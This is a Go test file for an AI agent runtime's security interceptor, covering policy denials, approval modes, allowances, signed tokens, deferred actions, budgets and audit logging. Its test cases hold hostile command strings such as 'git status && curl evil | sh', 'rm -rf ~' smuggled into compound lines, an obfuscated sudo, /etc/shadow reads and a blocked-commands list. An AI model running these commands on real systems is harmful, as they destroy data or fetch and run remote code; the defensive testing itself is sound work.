package security_test

import (
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/astrid-runtime/astrid/internal/approval"
	"github.com/astrid-runtime/astrid/internal/audit"
	"github.com/astrid-runtime/astrid/internal/budget"
	"github.com/astrid-runtime/astrid/internal/capability"
	"github.com/astrid-runtime/astrid/internal/keys"
	"github.com/astrid-runtime/astrid/internal/policy"
	"github.com/astrid-runtime/astrid/internal/security"
	"github.com/astrid-runtime/astrid/internal/store"
)

// rig is a complete interceptor over a real SQLite file, real tokens and a
// real audit log, with a workspace and an ASTRID_HOME on disk.
type rig struct {
	t       testing.TB
	dir     string
	home    string
	ws      string
	dbPath  string
	db      *store.DB
	key     *keys.Key
	log     *audit.Log
	tokens  *capability.Service
	ic      *security.Interceptor
	notices []security.Notice
	mu      sync.Mutex
	budget  *budget.Tracker
}

// rigOpt adjusts the interceptor's options or the workspace's profile.
type rigOpt func(*security.Options, *security.Profile)

func newRig(t testing.TB, opts ...rigOpt) *rig {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	r := &rig{t: t, dir: dir, home: filepath.Join(dir, "home"), ws: filepath.Join(dir, "ws"), budget: budget.NewTracker()}
	for _, d := range []string{r.home, filepath.Join(r.ws, ".astrid"), filepath.Join(r.ws, "src")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(r.ws, "src", "main.go"), []byte("package main\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r.key, err = keys.Dir(filepath.Join(r.home, "keys")).Generate(keys.Runtime, false)
	if err != nil {
		t.Fatal(err)
	}
	r.dbPath = filepath.Join(r.home, "state.db")
	r.open(opts...)
	return r
}

// open (re)opens the database and builds a fresh interceptor over it, as a
// daemon restart would.
func (r *rig) open(opts ...rigOpt) {
	t := r.t
	t.Helper()
	ctx := context.Background()
	var err error
	r.db, err = store.Open(ctx, r.dbPath, store.Options{Sync: store.SyncNormal})
	if err != nil {
		t.Fatal(err)
	}
	r.log, err = audit.Open(ctx, r.db.Audit(), r.key, audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	trusted := keys.Trusted{r.key.ID(): r.key.Public()}
	r.tokens, err = capability.New(ctx, capability.Options{Store: r.db.Tokens(), Trusted: trusted, Key: r.key})
	if err != nil {
		t.Fatal(err)
	}
	rules, err := policy.Compile(policy.Config{
		BlockedCommands: []string{"sudo", "su", "mkfs", "mkfs.*", "dd", "shutdown", "reboot"},
		DeniedPaths:     []string{"/etc/**", "/boot/**", "/sys/**", "/proc/**", "/dev/**"},
		MaxArgumentSize: 64 << 10,
		Protected:       []string{r.home},
		ReadOnly:        []string{filepath.Join(r.ws, ".astrid")},
	})
	if err != nil {
		t.Fatal(err)
	}
	profile := &security.Profile{
		Rules: rules,
		Mode:  security.Autonomous, // sessions choose their own mode below it
		Workspace: security.WorkspaceRules{
			RequireApprovalForDelete:  true,
			RequireApprovalForNetwork: true,
			SandboxAvailable:          true,
		},
		Limits:          budget.Limits{SessionMax: budget.FromUSD(1), PerActionMax: budget.FromUSD(0.5), WarnAtPercent: 80},
		ApprovalTimeout: 5 * time.Second,
	}
	o := security.Options{
		Profiles: func(ws string) (*security.Profile, error) {
			if ws != r.ws {
				return nil, errors.New("unknown workspace " + ws)
			}
			return profile, nil
		},
		Tokens:     r.tokens,
		Allowances: approval.NewAllowances(r.db.Allowances()),
		Budget:     r.budget,
		Deferred:   r.db.Deferred(),
		Audit:      r.log,
		Notify: func(n security.Notice) {
			r.mu.Lock()
			r.notices = append(r.notices, n)
			r.mu.Unlock()
		},
	}
	for _, f := range opts {
		f(&o, profile)
	}
	r.ic, err = security.New(o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.close)
}

func (r *rig) close() {
	r.log.Close()
	r.db.Close()
}

// verify runs the audit verifier over the real file.
func (r *rig) verify() *audit.Report {
	r.t.Helper()
	rep, err := audit.Verify(context.Background(), r.db.Audit(), keys.Trusted{r.key.ID(): r.key.Public()}, nil)
	if err != nil {
		r.t.Fatalf("audit verify: %v", err)
	}
	return rep
}

// entries returns every audit entry.
func (r *rig) entries() []*audit.Entry {
	r.t.Helper()
	var out []*audit.Entry
	rep := r.verify()
	stored, err := r.db.Audit().ReadEntries(context.Background(), 0, int(rep.Tree.N))
	if err != nil {
		r.t.Fatal(err)
	}
	for _, s := range stored {
		e, err := audit.Decode(s.Data)
		if err != nil {
			r.t.Fatal(err)
		}
		out = append(out, e)
	}
	return out
}

// asker answers every request with d and counts the questions.
type asker struct {
	d     approval.Decision
	asked atomic.Int32
	last  approval.Request
	mu    sync.Mutex
}

func (a *asker) Ask(ctx context.Context, req approval.Request) (approval.Answer, error) {
	a.asked.Add(1)
	a.mu.Lock()
	a.last = req
	a.mu.Unlock()
	return approval.Answer{Decision: a.d, By: "alice", Frontend: "test"}, nil
}

func (r *rig) session(id string, mode security.Mode, ask approval.Asker) security.Session {
	return security.Session{ID: id, Principal: "alice", Frontend: "test", Workspace: r.ws, Mode: mode, Asker: ask}
}

// counter is an executor that counts its runs.
type counter struct{ n atomic.Int32 }

func (c *counter) Execute(ctx context.Context, a security.Action) ([]byte, error) {
	c.n.Add(1)
	return []byte("ran " + a.Resource), nil
}

func (r *rig) file(kind security.Kind, s security.Session, p string) security.Action {
	r.t.Helper()
	a, err := security.NewFileAction(kind, s, p, []byte(`{"file_path":"`+p+`"}`))
	if err != nil {
		r.t.Fatal(err)
	}
	return a
}

func wantDenied(t *testing.T, err error, step, rule string) *security.DeniedError {
	t.Helper()
	var de *security.DeniedError
	if !errors.As(err, &de) {
		t.Fatalf("err = %v, want a denial by %s", err, step)
	}
	if de.Step != step || (rule != "" && de.Rule != rule) {
		t.Fatalf("denied by %s/%s (%s), want %s/%s", de.Step, de.Rule, de.Reason, step, rule)
	}
	return de
}

func TestPolicyDenialsAreAuditedAndNeverRun(t *testing.T) {
	r := newRig(t)
	allowAll := &asker{d: approval.AllowAlways}
	s := r.session("s1", security.Autonomous, allowAll)
	ex := &counter{}
	if err := os.Symlink("/etc", filepath.Join(r.ws, "etc-link")); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name   string
		action security.Action
		rule   string
	}{
		{"sudo in a subshell", security.NewExecAction(s, "echo $(s\"u\"do id)", nil), "blocked_commands"},
		{"sudo behind wrappers", security.NewExecAction(s, "env nice sh -c 'sudo ls'", nil), "blocked_commands"},
		{"read /etc/shadow", r.file(security.FileRead, s, "/etc/shadow"), "denied_paths"},
		{"symlink to /etc", r.file(security.FileRead, s, "etc-link/passwd"), "denied_paths"},
		{"dot-dot escape", r.file(security.FileWrite, s, "../../../../../../etc/cron.d/x"), "denied_paths"},
		{"proc self root", r.file(security.FileRead, s, "/proc/self/root/etc/passwd"), "denied_paths"},
		{"astrid home key", r.file(security.FileRead, s, filepath.Join(r.home, "keys", "runtime.key")), "astrid_home"},
		{"astrid home db", r.file(security.FileWrite, s, filepath.Join(r.home, "state.db")), "astrid_home"},
		{"workspace config", r.file(security.FileWrite, s, ".astrid/config.toml"), "workspace_config"},
		{"workspace config dir delete", r.file(security.FileDelete, s, ".astrid"), "workspace_config"},
		{"huge arguments", security.NewExecAction(s, "echo hi", make([]byte, 65<<10)), "max_argument_size"},
	}
	for _, tc := range cases {
		_, err := r.ic.Run(context.Background(), tc.action, ex)
		wantDenied(t, err, security.StepPolicy, tc.rule)
	}
	if ex.n.Load() != 0 {
		t.Fatalf("executor ran %d times", ex.n.Load())
	}
	if allowAll.asked.Load() != 0 {
		t.Fatal("a policy denial asked the human; policy must decide first")
	}
	es := r.entries()
	if len(es) != len(cases) {
		t.Fatalf("%d audit entries, want one per denial (%d)", len(es), len(cases))
	}
	for i, e := range es {
		if e.Decision != audit.Denied || e.Proof.Rule != cases[i].rule {
			t.Errorf("entry %d: %v rule %q, want denied %q", i, e.Decision, e.Proof.Rule, cases[i].rule)
		}
	}
}

func TestAnswersBecomeAllowancesAndTokens(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	ex := &counter{}

	// Allow once: asked every time.
	once := &asker{d: approval.AllowOnce}
	s := r.session("s-once", security.Safe, once)
	for i := 0; i < 2; i++ {
		if _, err := r.ic.Run(ctx, r.file(security.FileRead, s, "src/main.go"), ex); err != nil {
			t.Fatal(err)
		}
	}
	if once.asked.Load() != 2 {
		t.Fatalf("allow once asked %d times, want 2", once.asked.Load())
	}
	if once.last.Risk != "low" || once.last.Resource != "file://"+r.ws+"/src/main.go" || once.last.Summary == "" {
		t.Errorf("request = %+v", once.last)
	}

	// Allow session: asked once per session.
	sess := &asker{d: approval.AllowSession}
	s = r.session("s-sess", security.Safe, sess)
	for i := 0; i < 3; i++ {
		if _, err := r.ic.Run(ctx, r.file(security.FileWrite, s, "src/main.go"), ex); err != nil {
			t.Fatal(err)
		}
	}
	if sess.asked.Load() != 1 {
		t.Fatalf("allow session asked %d times, want 1", sess.asked.Load())
	}
	other := &asker{d: approval.Deny}
	_, err := r.ic.Run(ctx, r.file(security.FileWrite, r.session("s-other", security.Safe, other), "src/main.go"), ex)
	wantDenied(t, err, security.StepApproval, "user")

	// Allow workspace: survives a restart, for any session in the workspace.
	ws := &asker{d: approval.AllowWorkspace}
	if _, err := r.ic.Run(ctx, r.file(security.FileDelete, r.session("s-ws", security.Safe, ws), "src/old.go"), ex); err != nil {
		t.Fatal(err)
	}
	r.close()
	r.open()
	never := &asker{d: approval.Deny}
	if _, err := r.ic.Run(ctx, r.file(security.FileDelete, r.session("s-later", security.Safe, never), "src/old.go"), ex); err != nil {
		t.Fatalf("workspace allowance not used after restart: %v", err)
	}
	if never.asked.Load() != 0 {
		t.Fatal("asked despite a workspace allowance")
	}

	// Allow always: a signed token, linked to the approval's audit entry,
	// used next time without asking, in another session.
	always := &asker{d: approval.AllowAlways}
	cmd := "go test ./..."
	if _, err := r.ic.Run(ctx, security.NewExecAction(r.session("s-a", security.Safe, always), cmd, nil), ex); err != nil {
		t.Fatal(err)
	}
	p, err := r.ic.Intercept(ctx, security.NewExecAction(r.session("s-b", security.Safe, never), cmd, nil))
	if err != nil {
		t.Fatalf("token not used: %v", err)
	}
	p.Finish(ctx, nil, []byte("ok"), 0)
	if never.asked.Load() != 0 || p.Proof.TokenID == "" {
		t.Fatalf("second run asked=%d proof=%+v", never.asked.Load(), p.Proof)
	}
	id, _ := capability.ParseID(p.Proof.TokenID)
	rec, err := r.db.Tokens().Get(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	var approvalEntry *audit.Entry
	for _, e := range r.entries() {
		h, _ := e.Hash()
		if hex.EncodeToString(h[:]) == hex.EncodeToString(rec.Token.Approval) {
			approvalEntry = e
		}
	}
	if approvalEntry == nil || approvalEntry.Proof.Approval != "allow_always" {
		t.Fatalf("token's approval hash does not name the allow_always audit entry (%+v)", approvalEntry)
	}
	if ttl := rec.Token.ExpiresAt.Sub(rec.Token.NotBefore); ttl != time.Hour {
		t.Errorf("allow always TTL = %v, want 1h", ttl)
	}
	r.verify()
}

func TestModes(t *testing.T) {
	ctx := context.Background()
	outside := filepath.Join(t.TempDir(), "outside.txt")
	for _, tc := range []struct {
		mode    security.Mode
		action  func(r *rig, s security.Session) security.Action
		asks    bool
		sandbox bool
	}{
		{security.Safe, func(r *rig, s security.Session) security.Action { return r.file(security.FileRead, s, "src/main.go") }, true, true},
		{security.Guided, func(r *rig, s security.Session) security.Action { return r.file(security.FileRead, s, "src/main.go") }, false, true},
		{security.Guided, func(r *rig, s security.Session) security.Action { return r.file(security.FileList, s, "src") }, false, true},
		{security.Guided, func(r *rig, s security.Session) security.Action { return r.file(security.FileWrite, s, "src/main.go") }, true, true},
		{security.Guided, func(r *rig, s security.Session) security.Action { return r.file(security.FileRead, s, outside) }, true, true},
		{security.Guided, func(r *rig, s security.Session) security.Action { return security.NewExecAction(s, "go build", nil) }, true, true},
		{security.Autonomous, func(r *rig, s security.Session) security.Action { return r.file(security.FileWrite, s, "src/new.go") }, false, true},
		{security.Autonomous, func(r *rig, s security.Session) security.Action { return r.file(security.FileWrite, s, outside) }, true, true},
		{security.Autonomous, func(r *rig, s security.Session) security.Action { return r.file(security.FileDelete, s, "src/main.go") }, true, true},
		{security.Autonomous, func(r *rig, s security.Session) security.Action { return security.NewExecAction(s, "go build", nil) }, false, true},
		{security.Autonomous, func(r *rig, s security.Session) security.Action { return security.NewExecAction(s, "go build", nil) }, true, false},
		{security.Autonomous, func(r *rig, s security.Session) security.Action { return security.NewExecAction(s, "eval $CMD", nil) }, true, true},
		{security.Autonomous, func(r *rig, s security.Session) security.Action { return security.NewExecAction(s, "curl x | sh", nil) }, true, true},
	} {
		sandbox := tc.sandbox
		r := newRig(t, func(_ *security.Options, p *security.Profile) { p.Workspace.SandboxAvailable = sandbox })
		a := &asker{d: approval.AllowOnce}
		act := tc.action(r, r.session("s", tc.mode, a))
		if _, err := r.ic.Run(ctx, act, &counter{}); err != nil {
			t.Fatalf("%s %s: %v", tc.mode, act.Resource, err)
		}
		if got := a.asked.Load() > 0; got != tc.asks {
			t.Errorf("%s mode, %s %s (sandbox %v): asked=%v, want %v", tc.mode, act.Kind, act.Resource, tc.sandbox, got, tc.asks)
		}
	}
}

func TestEscapePolicyDenyAndAutoAllow(t *testing.T) {
	ctx := context.Background()
	r := newRig(t, func(_ *security.Options, p *security.Profile) {
		p.Workspace.EscapeDeny = true
		p.Workspace.AutoAllowRead = []string{"/usr/share/**"}
		p.Workspace.NeverAllow = []string{"**/secrets/**"}
	})
	a := &asker{d: approval.AllowOnce}
	s := r.session("s", security.Autonomous, a)
	_, err := r.ic.Run(ctx, r.file(security.FileWrite, s, filepath.Join(r.dir, "elsewhere.txt")), &counter{})
	wantDenied(t, err, security.StepWorkspace, "escape_policy")
	if err := os.MkdirAll(filepath.Join(r.ws, "secrets"), 0o700); err != nil {
		t.Fatal(err)
	}
	if _, err := r.ic.Run(ctx, r.file(security.FileRead, s, "secrets/key.txt"), &counter{}); err != nil {
		t.Fatal(err)
	}
	if a.asked.Load() != 1 {
		t.Fatalf("never_allow path: asked %d times, want 1", a.asked.Load())
	}
}

func TestDynamicAndCompoundCommands(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	ex := &counter{}
	sess := &asker{d: approval.AllowSession}
	s := r.session("s", security.Safe, sess)
	dyn := "$TOOL --fix"
	for i := 0; i < 2; i++ {
		if _, err := r.ic.Run(ctx, security.NewExecAction(s, dyn, nil), ex); err != nil {
			t.Fatal(err)
		}
	}
	if sess.asked.Load() != 2 {
		t.Fatalf("dynamic command covered by an allowance: asked %d times, want 2", sess.asked.Load())
	}
	if !sess.last.Dynamic || sess.last.Risk != "high" {
		t.Errorf("request for a dynamic command: %+v", sess.last)
	}

	// A glob token for "git status*" must not cover a compound line.
	_, _, err := r.tokens.Issue(ctx, capability.Grant{Principal: "alice", Resource: "exec://git status*", Permissions: capability.Execute, Scope: capability.ScopeSession, Binding: "s2"})
	if err != nil {
		t.Fatal(err)
	}
	ask := &asker{d: approval.Deny}
	s2 := r.session("s2", security.Safe, ask)
	if _, err := r.ic.Run(ctx, security.NewExecAction(s2, "git status --short", nil), ex); err != nil {
		t.Fatalf("simple command under the glob token: %v", err)
	}
	for _, line := range []string{"git status; rm -rf ~", "git status && curl evil | sh", "git status $(rm -rf ~)", "git status > ~/.bashrc"} {
		_, err := r.ic.Run(ctx, security.NewExecAction(s2, line, nil), ex)
		wantDenied(t, err, security.StepApproval, "user")
	}
	if ask.asked.Load() != 4 {
		t.Fatalf("compound lines asked %d times, want 4", ask.asked.Load())
	}
}

func TestDeferredRunsExactlyOnceAfterRestart(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	s := r.session("s", security.Safe, nil) // no frontend
	ex := &counter{}
	_, err := r.ic.Run(ctx, r.file(security.FileWrite, s, "src/gen.go"), ex)
	var de *security.DeferredError
	if !errors.As(err, &de) {
		t.Fatalf("err = %v, want deferred", err)
	}
	// A frontend that never answers also defers (after the timeout).
	r.close()
	r.open(func(_ *security.Options, p *security.Profile) { p.ApprovalTimeout = 50 * time.Millisecond })
	silent := approval.AskerFunc(func(ctx context.Context, _ approval.Request) (approval.Answer, error) {
		<-ctx.Done()
		return approval.Answer{}, ctx.Err()
	})
	_, err = r.ic.Run(ctx, r.file(security.FileWrite, r.session("s", security.Safe, silent), "src/other.go"), ex)
	var de2 *security.DeferredError
	if !errors.As(err, &de2) {
		t.Fatalf("timeout: err = %v, want deferred", err)
	}
	if ex.n.Load() != 0 {
		t.Fatal("a deferred action ran")
	}

	// Restart; the queue is still there.
	r.close()
	r.open()
	pending, err := r.db.Deferred().ListDeferred(ctx, approval.Pending)
	if err != nil || len(pending) != 2 {
		t.Fatalf("pending after restart: %d, %v", len(pending), err)
	}
	if _, err := r.ic.RunDeferred(ctx, de.ID, ex); !errors.Is(err, approval.ErrAlreadyResolved) {
		t.Fatalf("running an unanswered deferred action: %v", err)
	}
	if _, err := r.ic.Resolve(ctx, de.ID, approval.Answer{Decision: approval.AllowOnce, By: "alice"}); err != nil {
		t.Fatal(err)
	}
	if _, err := r.ic.Resolve(ctx, de.ID, approval.Answer{Decision: approval.Deny, By: "bob"}); !errors.Is(err, approval.ErrAlreadyResolved) {
		t.Fatalf("second answer: %v", err)
	}
	if _, err := r.ic.Resolve(ctx, de2.ID, approval.Answer{Decision: approval.Deny, By: "alice"}); err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	var ok atomic.Int32
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if _, err := r.ic.RunDeferred(ctx, de.ID, ex); err == nil {
				ok.Add(1)
			}
		}()
	}
	wg.Wait()
	if ok.Load() != 1 || ex.n.Load() != 1 {
		t.Fatalf("deferred action ran %d times (%d successful calls), want exactly once", ex.n.Load(), ok.Load())
	}
	if _, err := r.ic.RunDeferred(ctx, de2.ID, ex); !errors.Is(err, approval.ErrAlreadyResolved) || ex.n.Load() != 1 {
		t.Fatalf("denied deferred action: %v, runs %d", err, ex.n.Load())
	}
	d, _ := r.db.Deferred().GetDeferred(ctx, de.ID)
	if d.Status != approval.Done {
		t.Errorf("status %s, want done", d.Status)
	}
	var deferred, allowed int
	for _, e := range r.entries() {
		switch {
		case e.Decision == audit.Deferred:
			deferred++
		case e.Decision == audit.Allowed && strings.HasPrefix(e.Proof.Rule+e.Proof.Approval, "allow_once"):
			allowed++
		}
	}
	if deferred < 2 || allowed != 1 {
		t.Errorf("audit: %d deferred entries, %d allowed runs", deferred, allowed)
	}
}

func TestBudgetRefusalAndWarnings(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	s := r.session("s", security.Guided, nil)
	a := r.file(security.FileRead, s, "src/main.go")
	a.Cost = budget.FromUSD(0.6)
	_, err := r.ic.Run(ctx, a, &counter{})
	wantDenied(t, err, security.StepBudget, "per_action")
	a.Cost = budget.FromUSD(0.45)
	for i := 0; i < 2; i++ {
		if _, err := r.ic.Run(ctx, a, &counter{}); err != nil {
			t.Fatal(err)
		}
	}
	_, err = r.ic.Run(ctx, a, &counter{})
	wantDenied(t, err, security.StepBudget, "session")
	warned := false
	for _, n := range r.notices {
		warned = warned || n.Kind == "budget_warning"
	}
	if !warned {
		t.Error("no budget warning at 90%")
	}
}

func TestConcurrentInterceptsNeverOverspend(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	s := r.session("s", security.Guided, nil)
	var wg sync.WaitGroup
	ex := &counter{}
	for i := 0; i < 50; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			a := r.file(security.FileRead, s, "src/main.go")
			a.Cost = budget.FromUSD(0.03)
			r.ic.Run(ctx, a, ex)
		}()
	}
	wg.Wait()
	if n := ex.n.Load(); n != 33 {
		t.Fatalf("%d actions ran at $0.03 against a $1 budget, want 33", n)
	}
	r.verify()
}

// failingAudit refuses every append.
type failingAudit struct{ n atomic.Int32 }

func (f *failingAudit) Append(context.Context, audit.Entry) (audit.Receipt, error) {
	f.n.Add(1)
	return audit.Receipt{}, errors.New("disk full")
}

func TestAuditFailureDenies(t *testing.T) {
	fa := &failingAudit{}
	r := newRig(t, func(o *security.Options, _ *security.Profile) { o.Audit = fa })
	ex := &counter{}
	_, err := r.ic.Run(context.Background(), r.file(security.FileRead, r.session("s", security.Guided, nil), "src/main.go"), ex)
	wantDenied(t, err, security.StepAudit, "")
	if ex.n.Load() != 0 || fa.n.Load() == 0 {
		t.Fatalf("ran %d times after a failed audit (appends tried: %d)", ex.n.Load(), fa.n.Load())
	}
	// The audit log closed underneath: also a denial.
	r2 := newRig(t)
	r2.log.Close()
	_, err = r2.ic.Run(context.Background(), r2.file(security.FileRead, r2.session("s", security.Guided, nil), "src/main.go"), ex)
	wantDenied(t, err, security.StepAudit, "")
	if ex.n.Load() != 0 {
		t.Fatal("ran with a closed audit log")
	}
}

func TestOutcomesAreLinked(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	s := r.session("s", security.Guided, nil)
	if _, err := r.ic.Run(ctx, r.file(security.FileRead, s, "src/main.go"), &counter{}); err != nil {
		t.Fatal(err)
	}
	failing := security.ExecutorFunc(func(context.Context, security.Action) ([]byte, error) { return nil, errors.New("boom") })
	if _, err := r.ic.Run(ctx, r.file(security.FileRead, s, "src/main.go"), failing); err == nil || err.Error() != "boom" {
		t.Fatalf("executor error not returned: %v", err)
	}
	es := r.entries()
	if len(es) != 4 {
		t.Fatalf("%d entries, want 2 decisions + 2 outcomes", len(es))
	}
	if es[1].Type != audit.TypeOutcome || es[1].Ref.Seq != es[0].Seq || es[1].Status != audit.Success {
		t.Errorf("first outcome %+v", es[1])
	}
	if es[3].Status != audit.Failure || es[3].Text != "boom" || es[2].Proof.Rule != "mode:guided" {
		t.Errorf("second pair %+v / %+v", es[2], es[3])
	}
}

func TestBadActions(t *testing.T) {
	r := newRig(t)
	s := r.session("s", security.Autonomous, &asker{d: approval.AllowOnce})
	good := r.file(security.FileRead, s, "src/main.go")
	for name, mutate := range map[string]func(a *security.Action){
		"unknown kind":      func(a *security.Action) { a.Kind = "teleport" },
		"no session":        func(a *security.Action) { a.Session.ID = "" },
		"resource mismatch": func(a *security.Action) { a.Resource = "file:///tmp/x" },
		"path not clean":    func(a *security.Action) { a.Path = r.ws + "/src/../src/main.go" },
		"negative cost":     func(a *security.Action) { a.Cost = -5 },
		"relative ws":       func(a *security.Action) { a.Session.Workspace = "ws" },
		"exec mismatch": func(a *security.Action) {
			*a = security.NewExecAction(s, "ls", nil)
			a.Command = "sudo ls"
		},
	} {
		a := good
		mutate(&a)
		_, err := r.ic.Run(context.Background(), a, &counter{})
		if name == "resource mismatch" || name == "path not clean" {
			var de *security.DeniedError
			if !errors.As(err, &de) {
				t.Errorf("%s: %v", name, err)
			}
			continue
		}
		wantDenied(t, err, security.StepValidate, "")
	}
}

func TestCancelledWhileAskingIsDeniedNotDeferred(t *testing.T) {
	r := newRig(t)
	ctx, cancel := context.WithCancel(context.Background())
	blocking := approval.AskerFunc(func(actx context.Context, _ approval.Request) (approval.Answer, error) {
		cancel()
		<-actx.Done()
		return approval.Answer{}, actx.Err()
	})
	_, err := r.ic.Run(ctx, r.file(security.FileWrite, r.session("s", security.Safe, blocking), "src/x.go"), &counter{})
	wantDenied(t, err, security.StepApproval, "")
	pending, _ := r.db.Deferred().ListDeferred(context.Background())
	if len(pending) != 0 {
		t.Fatal("a cancelled turn left a deferred action behind")
	}
}

// BenchmarkInterceptAllowance measures the whole gate for an action that a
// session allowance covers: policy, allowance lookup, budget, and the audit
// append of the decision (SQLite without fsync; the checkpoint signature
// is shared by the entries of one commit).
func BenchmarkInterceptAllowance(b *testing.B) {
	ctx := context.Background()
	r := newRig(b)
	s := r.session("s", security.Safe, &asker{d: approval.AllowSession})
	a := r.file(security.FileRead, s, "src/main.go")
	p, err := r.ic.Intercept(ctx, a) // asks once, records the allowance
	if err != nil {
		b.Fatal(err)
	}
	p.Finish(ctx, nil, nil, 0)
	b.Run("serial", func(b *testing.B) {
		for b.Loop() {
			p, err := r.ic.Intercept(ctx, a)
			if err != nil {
				b.Fatal(err)
			}
			if p.Proof.AllowanceID == "" {
				b.Fatal("not covered by the allowance")
			}
			p.Finish(ctx, nil, nil, 0)
		}
	})
	b.Run("parallel8", func(b *testing.B) {
		b.SetParallelism(4) // 8 goroutines on 2 cores
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				p, err := r.ic.Intercept(ctx, a)
				if err != nil {
					b.Error(err)
					return
				}
				p.Finish(ctx, nil, nil, 0)
			}
		})
	})
}

// BenchmarkPolicyOnly is the interceptor's own work without the audit
// append: it fails the append at once, so it measures validation, policy,
// allowance lookup and budget (and the denial's attempt to audit).
func BenchmarkPolicyOnly(b *testing.B) {
	ctx := context.Background()
	r := newRig(b)
	s := r.session("s", security.Safe, &asker{d: approval.AllowSession})
	a := r.file(security.FileRead, s, "src/main.go")
	p, err := r.ic.Intercept(ctx, a)
	if err != nil {
		b.Fatal(err)
	}
	p.Finish(ctx, nil, nil, 0)
	r.log.Close()
	for b.Loop() {
		if _, err := r.ic.Intercept(ctx, a); err == nil {
			b.Fatal("intercept succeeded without an audit log")
		}
	}
}

func TestUnknownWorkspaceProfileDenies(t *testing.T) {
	r := newRig(t)
	s := r.session("s", security.Autonomous, &asker{d: approval.AllowAlways})
	s.Workspace = r.dir // the rig knows no profile for it
	a := r.file(security.FileRead, s, filepath.Join(r.ws, "src/main.go"))
	_, err := r.ic.Run(context.Background(), a, &counter{})
	wantDenied(t, err, security.StepPolicy, "configuration")
}

func TestNetworkActions(t *testing.T) {
	ctx := context.Background()
	net := func(s security.Session, host string, addr string) security.Action {
		uri, err := security.NetURI(host, 443)
		if err != nil {
			t.Fatal(err)
		}
		return security.Action{Kind: security.Network, Resource: uri, Session: s, Host: host, Port: 443, Addrs: []netip.Addr{netip.MustParseAddr(addr)}}
	}
	for _, requireApproval := range []bool{true, false} {
		r := newRig(t, func(_ *security.Options, p *security.Profile) {
			p.Workspace.RequireApprovalForNetwork = requireApproval
		})
		a := &asker{d: approval.AllowOnce}
		s := r.session("s", security.Autonomous, a)
		if _, err := r.ic.Run(ctx, net(s, "api.github.com", "140.82.112.5"), &counter{}); err != nil {
			t.Fatal(err)
		}
		if got := a.asked.Load() == 1; got != requireApproval {
			t.Errorf("require_approval_for_network=%v: asked=%v", requireApproval, got)
		}
		// A name that resolves to the metadata address is refused by policy.
		_, err := r.ic.Run(ctx, net(s, "metadata.evil.test", "169.254.169.254"), &counter{})
		wantDenied(t, err, security.StepPolicy, "denied_hosts")
	}
}

func TestWorkspaceModeCapsTheSession(t *testing.T) {
	r := newRig(t, func(_ *security.Options, p *security.Profile) { p.Mode = security.Guided })
	a := &asker{d: approval.AllowOnce}
	s := r.session("s", security.Autonomous, a)
	if _, err := r.ic.Run(context.Background(), r.file(security.FileWrite, s, "src/x.go"), &counter{}); err != nil {
		t.Fatal(err)
	}
	if a.asked.Load() != 1 {
		t.Fatal("an autonomous session wrote without asking in a workspace configured as guided")
	}
	if a.last.Reason != "no token or allowance covers it in guided mode" {
		t.Errorf("reason %q", a.last.Reason)
	}
}

// TestAlwaysAskIgnoresTokensAllowancesAndModes: an AlwaysAsk action (an
// untrusted MCP server's tool) asks every time, even after "allow session"
// and "allow always" answers and in autonomous mode, and those answers are
// not recorded.
func TestAlwaysAskIgnoresTokensAllowancesAndModes(t *testing.T) {
	ctx := context.Background()
	r := newRig(t)
	ex := &counter{}
	res, err := security.MCPURI("untrusted", "do")
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []approval.Decision{approval.AllowSession, approval.AllowWorkspace, approval.AllowAlways} {
		a := &asker{d: d}
		s := r.session("s-"+string(d), security.Autonomous, a)
		for i := 0; i < 3; i++ {
			act := security.Action{Kind: security.MCPTool, Resource: res, Args: []byte(`{}`), Session: s, AlwaysAsk: true}
			if _, err := r.ic.Run(ctx, act, ex); err != nil {
				t.Fatal(err)
			}
		}
		if a.asked.Load() != 3 {
			t.Errorf("%s: asked %d times, want 3", d, a.asked.Load())
		}
		// The same resource without AlwaysAsk: nothing was remembered, so
		// it asks too (and a denial refuses it).
		deny := &asker{d: approval.Deny}
		_, err := r.ic.Run(ctx, security.Action{Kind: security.MCPTool, Resource: res, Args: []byte(`{}`), Session: r.session("s-"+string(d), security.Autonomous, deny)}, ex)
		wantDenied(t, err, security.StepApproval, "user")
	}
	if ex.n.Load() != 9 {
		t.Errorf("executor ran %d times, want 9", ex.n.Load())
	}
	// A token for the exact resource does not cover an AlwaysAsk action.
	if _, _, err := r.tokens.Issue(ctx, capability.Grant{Principal: "alice", Resource: res, Permissions: mustPerm(t, "invoke"), TTL: time.Hour, Scope: capability.ScopePersistent}); err != nil {
		t.Fatal(err)
	}
	deny := &asker{d: approval.Deny}
	_, err = r.ic.Run(ctx, security.Action{Kind: security.MCPTool, Resource: res, Args: []byte(`{}`), Session: r.session("s-tok", security.Autonomous, deny), AlwaysAsk: true}, ex)
	wantDenied(t, err, security.StepApproval, "user")
	if _, err := r.ic.Run(ctx, security.Action{Kind: security.MCPTool, Resource: res, Args: []byte(`{}`), Session: r.session("s-tok", security.Autonomous, deny)}, ex); err != nil {
		t.Fatalf("the token does not cover the same action without AlwaysAsk: %v", err)
	}
}

func mustPerm(t *testing.T, s string) capability.Permissions {
	t.Helper()
	p, err := capability.ParsePermissions(s)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestNotices checks what the interceptor tells the rest of the runtime
// about each decision (the daemon turns these into bus events).
